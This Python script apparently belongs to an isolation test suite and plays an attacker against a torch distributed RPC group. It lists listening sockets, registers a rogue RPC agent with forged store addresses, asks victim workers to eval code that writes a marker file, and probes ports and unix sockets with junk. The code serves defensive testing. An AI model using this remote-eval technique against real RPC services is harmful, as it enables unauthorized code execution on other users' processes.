"""Another user of the machine, trying what an attacker would against an rpcnb group
(tests/net/test_isolation.py runs it as user `nobody`). Prints one JSON object: what it saw and
what each attempt did.

1. Lists every listening TCP socket in /proc/net/tcp and /proc/net/tcp6.
2. Against each port it is given: starts its own torch RPC agent ("eve", in a group of its
   own with a file store), writes ``addrs/<victim>`` = ``uv://127.0.0.1:<port>`` into its
   store under torch's prefix, tells its agent that the victim joined, and asks the victim
   to ``eval`` code that writes the marker file. This comes first: a TensorPipe listener
   stops accepting after one connection that is not a TensorPipe pipe.
3. Connects to each port on 127.0.0.1, then sends junk (an HTTP request, 64 random bytes).
4. Tries to connect to the kernel's ipc (unix) sockets.

The ports come from the test, which leaves out ports that processes outside the group
listen on: this machine is shared, and the attack must hit nothing but the group.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import os
import socket
import time
from pathlib import Path

HTTP = b"GET / HTTP/1.0\r\n\r\n"


def listening() -> list[tuple[str, int, int]]:
    found = []
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] != "0A":  # LISTEN
                continue
            hexaddr, port = fields[1].split(":")
            raw = bytes.fromhex(hexaddr)
            raw = b"".join(raw[i:i + 4][::-1] for i in range(0, len(raw), 4))
            found.append((str(ipaddress.ip_address(raw)), int(port, 16), int(fields[9])))
    return found


def connect(port: int, payload: bytes | None = None) -> str:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as s:
            if payload is None:
                return "connected"
            s.sendall(payload)
            s.settimeout(0.3)
            try:
                s.recv(1024)
            except OSError:
                pass
            return "sent"
    except OSError as err:
        return f"{type(err).__name__}: {err}"


def rpc_attack(ports: list[int], marker: str, work: Path, timeout: float) -> dict[int, str]:
    import torch.distributed as dist
    import torch.distributed.rpc as rpc
    from torch.distributed.rpc import TensorPipeRpcBackendOptions, WorkerInfo
    from torch.distributed.rpc.api import _get_current_rpc_agent

    store_path = work / "store"
    rpc.init_rpc("eve", rank=1000, rpc_backend_options=TensorPipeRpcBackendOptions(
        init_method=f"file://{store_path}", rpc_timeout=timeout))
    store = dist.FileStore(str(store_path), -1)
    agent = _get_current_rpc_agent()
    futures = {}
    code = f"open({marker!r}, 'w').write('x')"
    for i, port in enumerate(ports):
        name = f"victim{i}"
        store.set(f"rpc_prefix_0/addrs/{name}", f"uv://127.0.0.1:{port}")
        agent._update_group_membership(WorkerInfo(name, i), [], {}, True)
        try:
            futures[port] = rpc.rpc_async(name, eval, args=(code,), timeout=timeout)
        except Exception as err:  # noqa: BLE001 - every outcome is a result here
            futures[port] = err
    results = {}
    for port, fut in futures.items():
        if isinstance(fut, Exception):
            results[port] = f"{type(fut).__name__}: {fut}"
            continue
        try:
            fut.wait()
            results[port] = "ran"
        except Exception as err:  # noqa: BLE001
            results[port] = f"{type(err).__name__}: {str(err)[:200]}"
    return results


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--ports", default="")
    parser.add_argument("--ipc", default="")
    parser.add_argument("--marker", required=True)
    parser.add_argument("--work", required=True)
    parser.add_argument("--timeout", type=float, default=5.0)
    parser.add_argument("--only-rpc", action="store_true", help="no plain connects, no junk")
    args = parser.parse_args()
    ports = [int(p) for p in args.ports.split(",") if p]
    report: dict = {"uid": os.getuid(), "listening": listening()}
    started = time.monotonic()
    report["rpc"] = rpc_attack(ports, args.marker, Path(args.work), args.timeout) if ports else {}
    report["rpc_s"] = round(time.monotonic() - started, 2)
    if not args.only_rpc:
        report["connect"] = {p: connect(p) for p in ports}
        report["junk"] = {p: [connect(p, HTTP), connect(p, os.urandom(64))] for p in ports}
    ipc = {}
    for path in (p for p in args.ipc.split(",") if p):
        try:
            with socket.socket(socket.AF_UNIX) as s:
                s.connect(path)
                ipc[path] = "connected"
        except OSError as err:
            ipc[path] = f"{type(err).__name__}: {err}"
    report["ipc"] = ipc
    print(json.dumps(report), flush=True)
    os._exit(0)  # leave without rpc.shutdown: its victims never answer


if __name__ == "__main__":
    main()
